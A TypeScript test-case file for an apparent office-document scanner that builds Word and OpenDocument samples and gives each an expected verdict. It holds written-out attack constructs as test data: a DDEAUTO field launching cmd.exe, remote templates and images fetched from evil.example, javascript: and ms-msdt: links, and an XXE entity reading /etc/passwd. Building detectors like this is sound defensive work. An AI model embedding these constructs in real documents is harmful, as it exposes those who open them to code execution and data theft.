/** Texts that run, fetch, or hold another file. */
import type { Case } from '../corpus.js';
import { body, docx, MAIN, relation, relations, types } from '../make/docx.js';
import { content, manifest, odt } from '../make/odt.js';

const word = (what: string, parts: Parameters<typeof docx>[0], expected: Case['expected']): Case => ({ what: `Word: ${what}`, file: 'a.docx', bytes: () => docx(parts), expected });
const linked = (what: string, type: string, target: string, mode: string, expected: Case['expected']): Case => word(what, { 'word/_rels/document.xml.rels': relations(relation(type, target, mode)) }, expected);
const field = (what: string, inside: string, expected: Case['expected'] = 'ACTIF'): Case => word(what, { 'word/document.xml': body(`<w:p>${inside}</w:p>`) }, expected);
const writer = (what: string, parts: Parameters<typeof odt>[0], expected: Case['expected']): Case => ({ what: `OpenDocument: ${what}`, file: 'a.odt', bytes: () => odt(parts), expected });
const said = (inside: string, before = ''): Record<string, string> => ({ 'content.xml': content(inside, before) });

export const offices: readonly Case[] = [
  word('macros', { 'word/vbaProject.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') }, 'MACROS'),
  word('macros under another name', { 'word/macro.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') }, 'MACROS'),
  word('a type with macros', { '[Content_Types].xml': types('', 'application/vnd.ms-word.document.macroEnabled.main+xml') }, ['MACROS', 'DESACCORD']),
  word('a type with macros beside its own', { '[Content_Types].xml': types(`<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>`) }, 'MACROS'),
  word('no text', { 'word/document.xml': null }, 'DESACCORD'),
  word('an older object', { 'word/embeddings/oleObject1.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') }, 'INCORPORE'),
  word('a workbook inside', { 'word/embeddings/a.xlsx': Buffer.from('PK\x03\x04') }, 'INCORPORE'),
  word('a program inside', { 'word/media/a.exe': Buffer.from('MZ') }, 'INCORPORE'),
  word('a program called a picture', { 'word/media/a.png': Buffer.from('MZ programme') }, 'INCORPORE'),
  word('a metafile', { 'word/media/a.emf': Buffer.from('EMF') }, 'INCORPORE'),
  word('a control', { 'word/activeX/activeX1.bin': Buffer.alloc(10) }, 'INCORPORE'),
  word('a page of the web inside', { 'word/a.html': '<html/>' }, 'INCORPORE'),
  word('a part that is another text', { 'word/document.xml': body('<w:altChunk/>') }, 'INCORPORE'),
  linked('a template from elsewhere', 'attachedTemplate', 'https://evil.example/a.dotm', 'External', 'EXTERIEUR'),
  linked('a picture from elsewhere', 'image', 'https://evil.example/a.png', 'External', 'EXTERIEUR'),
  linked('a picture from elsewhere, in other letters', 'image', 'https://evil.example/a.png', 'external', 'EXTERIEUR'),
  linked('a picture from elsewhere that does not say so', 'image', '\\\\evil.example\\a.png', '', 'EXTERIEUR'),
  linked('an object from elsewhere', 'oleObject', 'https://evil.example/a', 'External', 'INCORPORE'),
  linked('a frame', 'frame', 'https://evil.example/a', 'External', 'EXTERIEUR'),
  linked('a link that runs', 'hyperlink', 'javascript:alert(1)', 'External', 'EXTERIEUR'),
  linked('a link that runs, by its codes', 'hyperlink', '&#106;avascript:alert(1)', 'External', 'EXTERIEUR'),
  linked('a link to a file', 'hyperlink', 'file:///c:/windows/system32/cmd.exe', 'External', 'EXTERIEUR'),
  linked('a link to a program of Windows', 'hyperlink', 'ms-msdt:/id', 'External', 'EXTERIEUR'),
  linked('macros by a relation', 'vbaProject', 'a.bin', '', 'MACROS'),
  field('a field that runs', '<w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "/>'),
  field('a field that runs, cut in pieces', '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:r>'),
  field('a field that fetches', '<w:r><w:instrText> INCLUDEPICTURE "https://evil.example/a" </w:instrText></w:r>'),
  field('another field that fetches', '<w:r><w:instrText> INCLUDETEXT "\\\\\\\\evil\\\\a" </w:instrText></w:r>'),
  field('a button', '<w:r><w:instrText> MACROBUTTON run </w:instrText></w:r>'),
  word('an entity from elsewhere', { 'word/document.xml': '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>' }, 'ACTIF'),
  word('an entity from elsewhere in a relation', { 'word/_rels/document.xml.rels': '<!DOCTYPE a SYSTEM "https://evil.example/a.dtd"><a/>' }, 'ACTIF'),
  word('another encoding', { 'word/document.xml': Buffer.from(body(), 'utf16le') }, 'ABIME'),
  word('another encoding, said', { 'word/document.xml': body().replace('UTF-8', 'UTF-7') }, 'ABIME'),
  word('tags that do not close', { 'word/document.xml': body('<w:p>') }, 'ABIME'),
  word('something that is not a tag', { 'word/document.xml': body('<w:p <w:r/>') }, 'ABIME'),
  word('a type that is not a text', { '[Content_Types].xml': types('', MAIN.replace('wordprocessingml.document', 'wordprocessingml.template')) }, 'DESACCORD'),

  writer('macros', { 'Basic/Standard/Module1.xml': '<a/>' }, 'MACROS'),
  writer('a script', { 'Scripts/python/a.py': 'import os' }, 'MACROS'),
  writer('an event', said('<text:p/>', '<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/></office:event-listeners></office:scripts>'), 'MACROS'),
  writer('an event under another prefix', said('<text:p/>', '<office:scripts xmlns:q="urn:oasis:names:tc:opendocument:xmlns:script:1.0"><q:event-listener/></office:scripts>'), 'MACROS'),
  writer('a link that runs', said('<text:a xlink:href="vnd.sun.star.script:a?language=Basic">a</text:a>'), 'MACROS'),
  writer('a picture from elsewhere', said('<draw:image xlink:href="https://evil.example/a.png"/>'), 'EXTERIEUR'),
  writer('a picture from elsewhere, under another prefix', said('<draw:image xmlns:z="http://www.w3.org/1999/xlink" z:href="https://evil.example/a.png"/>'), 'EXTERIEUR'),
  writer('a picture from a share', said('<draw:image xlink:href="//evil.example/a.png"/>'), 'EXTERIEUR'),
  writer('a section from elsewhere', said('<text:section-source xlink:href="https://evil.example/a.odt"/>'), 'EXTERIEUR'),
  writer('an object', said('<draw:object xlink:href="./Object 1"/>'), 'INCORPORE'),
  writer('an object in its parts', { 'Object 1/content.xml': '<a/>' }, 'INCORPORE'),
  writer('a frame', said('<draw:floating-frame xlink:href="https://evil.example"/>'), 'INCORPORE'),
  writer('a field that runs', said('<text:p/>', '<text:dde-connection-decls><text:dde-connection-decl office:name="a"/></text:dde-connection-decls>'), 'ACTIF'),
  writer('a password', { 'META-INF/manifest.xml': manifest('<manifest:file-entry manifest:full-path="a"><manifest:encryption-data/></manifest:file-entry>') }, 'CHIFFRE'),
  writer('an entity', { 'content.xml': '<!DOCTYPE a [<!ENTITY x "y">]><a/>' }, 'ACTIF'),
  writer('a metafile', { 'Pictures/a.svm': Buffer.from('VCLMTF') }, 'INCORPORE'),
  writer('no text', { 'content.xml': null }, 'DESACCORD'),
  writer('another type', { mimetype: 'application/vnd.oasis.opendocument.spreadsheet' }, 'DESACCORD'),
];
